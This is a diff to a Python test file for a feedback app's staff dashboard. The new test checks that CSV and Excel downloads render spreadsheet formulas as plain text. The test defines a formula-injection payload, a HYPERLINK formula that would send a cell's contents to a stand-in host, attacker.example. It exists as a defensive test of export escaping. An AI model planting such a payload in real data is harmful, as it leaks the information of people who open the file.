@@ -1,5 +1,9 @@
 """The staff dashboard (/overview): figures per goal, filters in the link, safe downloads."""
 
+import csv
+import io
+
+import openpyxl
 import pytest
 
 from feedback import plans, settings
@@ -140,7 +144,17 @@ def test_the_overview_without_plans_says_how_to_load_them(db_path, monkeypatch):
     assert "feedback init" in at.warning[0].value
 
 
-def test_the_dashboard_offers_safe_downloads(app_env, round_, admin):
+#: An action's text that a spreadsheet would run as a formula: a link that sends a cell away.
+FORMULA = '=HYPERLINK("http://attacker.example/?"&B2;"Klikkaa")'
+
+
+def test_the_dashboard_files_open_in_excel_with_formulas_as_plain_text(
+    app_env, round_, admin, downloaded
+):
+    plan = editing.export_plan(app_env, "mini")
+    editing.find_action(plan, "a1")["text"] = {"fi": FORMULA, "en": FORMULA}
+    editing.save(app_env, plan)
+    answered(app_env, round_, *[4] * 10)
     at = page("overview", session=admin, lang="en", section="files")
     labels = [d.proto.label for d in at.get("download_button")]
     assert labels == [
@@ -150,6 +164,17 @@ def test_the_dashboard_offers_safe_downloads(app_env, round_, admin):
         "Anonymous answers (Excel)",
         "Download the yearly report (PDF)",
     ]
+    for name in ("Summary", "Anonymous answers"):
+        text = downloaded(at, f"{name} (CSV)").decode("utf-8-sig")
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+        workbook = openpyxl.load_workbook(io.BytesIO(downloaded(at, f"{name} (Excel)")))
+        sheet = [cell for row in workbook.active.iter_rows() for cell in row]
+        # Nothing Excel would run: in CSV no cell starts a formula, in the workbook no cell is one.
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+        assert not [cell for cell in sheet if cell.data_type == "f"]
+        if name == "Summary":  # the action's text is there, to read: in CSV after an apostrophe
+            assert "'" + FORMULA in cells  # (which Excel hides), in the workbook as a text cell
+            assert [(c.value, c.data_type) for c in sheet if c.value == FORMULA] == [(FORMULA, "s")]
 
 
 def test_staff_get_the_figure_exports_but_not_the_answer_level_one(app_env, round_):
